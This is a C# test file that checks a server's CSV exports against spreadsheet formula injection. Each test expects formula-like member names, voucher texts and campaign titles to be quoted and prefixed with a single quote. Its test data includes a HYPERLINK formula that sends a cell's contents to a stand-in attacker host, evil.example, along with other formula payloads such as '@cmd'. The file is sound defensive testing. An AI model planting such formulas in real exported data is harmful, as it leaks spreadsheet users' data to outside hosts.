using System.Globalization;
using System.Net;
using System.Text;
using Tessera.Server.Protocol;
using Tessera.Server.Tests.Campaigns;
using Tessera.Server.Tests.Infrastructure;

namespace Tessera.Server.Tests.Protocol;

/// <summary>
/// Every CSV Tessera writes is safe to open in a spreadsheet: text that starts like a formula (=, +, -, @, tab, CR)
/// gets a single quote in front and is quoted (OWASP); numbers the system writes stay numbers.
/// </summary>
public sealed class CsvFormulaInjectionTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")";

    /// <summary>The hyperlink as the CSV must carry it: a quote in front, the cell quoted, inner quotes doubled.</summary>
    private const string HyperlinkCell = "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"click\"\")\"";

    private static string Id(long id) => id.ToString(CultureInfo.InvariantCulture);

    private static async Task<int> AddFormulaMemberAsync(TestChain chain)
    {
        using var privileged = chain.PrivilegedClient();
        var added = await privileged.PostAsync("/internal/add-user", ("username", $"formula-{Guid.NewGuid():N}@example.test"),
            ("first_name", Hyperlink), ("last_name", "+SUM(1,2)"), ("address_towncity", "@cmd"), ("address_line_2", "-2+3"), ("address_streetname", "Main street"));
        added.AssertOk("add-user");
        return added.Results.GetProperty("user_info").GetProperty("user_id").GetInt32();
    }

    [Theory, AllEngines]
    public async Task The_member_export_writes_formula_like_names_as_quoted_text_and_ids_as_numbers(string engine)
    {
        var app = TesseraApp.Shared(engine);
        var chain = await app.BootstrapAsync();
        var memberId = await AddFormulaMemberAsync(chain);
        using var privileged = chain.PrivilegedClient();
        var link = await privileged.PostAsync("/auth/export", ("export_entity", "user"));
        link.AssertOk("export");

        using var anonymous = app.Client();
        using var response = await anonymous.Http.GetAsync(new Uri(link.Results.GetProperty("download_url").GetString()!).PathAndQuery);
        var line = (await response.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries)[1];

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.StartsWith(Id(memberId) + ",", line, StringComparison.Ordinal);
        Assert.Contains("," + HyperlinkCell + ",\"'+SUM(1,2)\",", line, StringComparison.Ordinal);
        Assert.Contains(",\"'-2+3\",", line, StringComparison.Ordinal);
        Assert.Contains(",\"'@cmd\",", line, StringComparison.Ordinal);
        Assert.Contains(",Main street,", line, StringComparison.Ordinal);
        Assert.DoesNotContain(",=", line, StringComparison.Ordinal);
    }

    [Theory, AllEngines]
    public async Task Get_vouchers_csv_writes_formula_like_texts_as_quoted_text_and_amounts_as_numbers(string engine)
    {
        var app = TesseraApp.Shared(engine);
        var chain = await app.BootstrapAsync();
        var memberId = await AddFormulaMemberAsync(chain);
        using var admin = await chain.AdminClientAsync();
        var campaign = (await CampaignTests.AddCampaignAsync(admin, chain.ChainId, """{"type":"loyalty","title":"=1+1"}""")).GetProperty("id").GetInt32();
        var created = await admin.PostAsync("/create-voucher", ("chain_id", Id(chain.ChainId)), ("user_id", Id(memberId)), ("campaign_id", Id(campaign)),
            ("voucher_amount", "5"), ("voucher_text", "@SUM(A1:A9)"), ("voucher_title", "-1+1"), ("voucher_description", "Plain words"));
        created.AssertOk("create-voucher");
        var voucherId = created.Results.GetProperty("voucher_id").GetInt64();

        using var response = await admin.Http.GetAsync($"/get-vouchers.csv?chain_id={chain.ChainId}");
        var lines = (await response.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var line = Assert.Single(lines[1..]);
        Assert.StartsWith(Id(voucherId) + ",", line, StringComparison.Ordinal);
        Assert.Contains(",5.00,0.00,\"'@SUM(A1:A9)\",EUR,", line, StringComparison.Ordinal);
        Assert.Contains($",{campaign},loyalty,\"'=1+1\",{memberId},", line, StringComparison.Ordinal);
        Assert.Contains("," + HyperlinkCell + ",\"'+SUM(1,2)\",", line, StringComparison.Ordinal);
        Assert.Contains(",\"'-1+1\",Plain words,", line, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_shared_writer_neutralises_text_of_each_formula_start_but_not_numbers_it_formats()
    {
        using var stream = new MemoryStream();
        await using (var csv = SpreadsheetSafeCsv.Create(stream))
        {
            foreach (var text in new[] { "=1", "+1", "-1", "@1", "\t1", "\r1", "1-", "a=b" })
            {
                csv.WriteField(text);
            }
            csv.WriteField(-5.00m, "0.00");
            await csv.EndRecordAsync(CancellationToken.None);
        }

        Assert.Equal("\"'=1\",\"'+1\",\"'-1\",\"'@1\",\"'\t1\",\"'\r1\",1-,a=b,-5.00\r\n", Encoding.UTF8.GetString(stream.ToArray()));
    }
}
